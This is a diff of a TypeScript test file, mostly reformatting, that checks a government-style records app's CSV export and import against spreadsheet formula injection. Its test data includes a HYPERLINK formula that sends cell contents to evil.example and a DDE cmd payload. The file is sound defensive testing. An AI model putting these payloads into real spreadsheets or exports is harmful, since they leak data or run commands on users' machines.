@@ -170,13 +170,18 @@ describe.each(providers)('hostile exports on %s', (provider) => {
         for (const key of keysOf(kind, await exportOf(authorization, kind))) {
           const [code, year] = key.split('/');
           const read = await ask(authorization, `query($code: String!) { unit(code: $code) { ${fields[kind]} { year } } }`, { code });
-          expect(read.unit[fields[kind]].map((record: { year: number }) => String(record.year)), `${kind} ${key}`).toContain(year);
+          expect(
+            read.unit[fields[kind]].map((record: { year: number }) => String(record.year)),
+            `${kind} ${key}`,
+          ).toContain(year);
         }
       }
       const listed = await ask(authorization, `{ models(first: 100) { edges { node { registrationKey evaluations { year } } } } }`);
       const read = listed.models.edges.map(({ node }: { node: { registrationKey: string; evaluations: { year: number }[] } }) => node);
       const readModels = read.map((model: { registrationKey: string }) => model.registrationKey);
-      const readEvaluations = read.flatMap((model: { registrationKey: string; evaluations: { year: number }[] }) => model.evaluations.map(({ year }) => `${model.registrationKey}/${year}`));
+      const readEvaluations = read.flatMap((model: { registrationKey: string; evaluations: { year: number }[] }) =>
+        model.evaluations.map(({ year }) => `${model.registrationKey}/${year}`),
+      );
       for (const key of keysOf('MODELS', await exportOf(authorization, 'MODELS'))) expect(readModels, key).toContain(key);
       for (const key of keysOf('EVALUATIONS', await exportOf(authorization, 'EVALUATIONS'))) expect(readEvaluations, key).toContain(key);
     });
@@ -197,7 +202,7 @@ describe.each(providers)('hostile exports on %s', (provider) => {
 
   describe('cells a spreadsheet would run as formulas', () => {
     // The characters OWASP names (= + - @ tab CR), and the apostrophe that marks neutralised text.
-    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', "'=1+1", "'Mô hình"];
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', "'=1+1", "'Mô hình"];
 
     beforeAll(async () => {
       const cb = await unitId('CB');
@@ -205,7 +210,17 @@ describe.each(providers)('hostile exports on %s', (provider) => {
       for (const [index, text] of hostile.entries()) {
         // Written as stored data, not through the API, which trims what an officer types.
         await db.model.create({
-          data: { registrationKey: `-HS.${index}`, kind: 'EXEMPLAR', holder: 'INDIVIDUAL', title: text, description: `${text} mô tả`, unitId: cb, fieldId: field.id, startYear: 2020, origin: 'ENTERED' },
+          data: {
+            registrationKey: `-HS.${index}`,
+            kind: 'EXEMPLAR',
+            holder: 'INDIVIDUAL',
+            title: text,
+            description: `${text} mô tả`,
+            unitId: cb,
+            fieldId: field.id,
+            startYear: 2020,
+            origin: 'ENTERED',
+          },
         });
       }
       await db.unit.update({ where: { code: 'CB' }, data: { note: '=1+1' } });
@@ -223,7 +238,11 @@ describe.each(providers)('hostile exports on %s', (provider) => {
       expect(exported).toContain(`,''=1+1,`);
       // The other cells of those rows are lists, codes, years: written as they are.
       expect(rows[0]!.slice(1, 3).concat(rows[0]!.slice(5, 8))).toEqual(['EXEMPLAR', 'INDIVIDUAL', 'CB', 'NONG_THON_MOI', '2020']);
-      expect(rowsOf(await exportCsv(db, 'UNITS')).find((row) => row[0] === 'CB')!.at(-1)).toBe("'=1+1");
+      expect(
+        rowsOf(await exportCsv(db, 'UNITS'))
+          .find((row) => row[0] === 'CB')!
+          .at(-1),
+      ).toBe("'=1+1");
       expect(rowsOf(await exportCsv(db, 'PLANS')).find((row) => row[0] === 'CB')![2]).toBe("'-12/KH-UBND");
     });
 
@@ -241,7 +260,11 @@ describe.each(providers)('hostile exports on %s', (provider) => {
 
     it('reads a leading apostrophe as the mark of text, as Excel does', async () => {
       const header = 'Mã đăng ký,Loại,Chủ thể,Tên mô hình,Mô tả,Mã đơn vị,Mã lĩnh vực,Năm bắt đầu';
-      const summary = await importAs(admin, 'MODELS', `${header}\r\n'MH-NEW,'MODEL,'COLLECTIVE,'=1+1,'',CB,NONG_THON_MOI,'2021\r\nMH-NEW2,MODEL,COLLECTIVE,x,',CB,NONG_THON_MOI,2021\r\n`);
+      const summary = await importAs(
+        admin,
+        'MODELS',
+        `${header}\r\n'MH-NEW,'MODEL,'COLLECTIVE,'=1+1,'',CB,NONG_THON_MOI,'2021\r\nMH-NEW2,MODEL,COLLECTIVE,x,',CB,NONG_THON_MOI,2021\r\n`,
+      );
       expect(summary).toMatchObject({ created: 2, problems: [] });
       expect(await db.model.findUniqueOrThrow({ where: { registrationKey: 'MH-NEW' } })).toMatchObject({ title: '=1+1', description: "'", startYear: 2021 });
       expect(await db.model.findUniqueOrThrow({ where: { registrationKey: 'MH-NEW2' } })).toMatchObject({ description: null });
@@ -259,7 +282,10 @@ describe('CSV written for a spreadsheet', () => {
 
   it('is what the dashboard and the widgets download', () => {
     expect(toCsvInTheBrowser).toBe(toCsv);
-    const rows = { by: 'unit' as const, rows: [{ key: 'X1', name: '=HYPERLINK("http://evil.example")', numerator: 1, denominator: 2, ratio: 0.5, target: 1, status: 'BELOW' }] };
+    const rows = {
+      by: 'unit' as const,
+      rows: [{ key: 'X1', name: '=HYPERLINK("http://evil.example")', numerator: 1, denominator: 2, ratio: 0.5, target: 1, status: 'BELOW' }],
+    };
     const { header, cells } = csvTable(rows as Parameters<typeof csvTable>[0], 'vi');
     expect(toCsvInTheBrowser(header, cells).split('\r\n')[1]).toBe(`X1,"'=HYPERLINK(""http://evil.example"")",1,2,0.5,1`);
   });
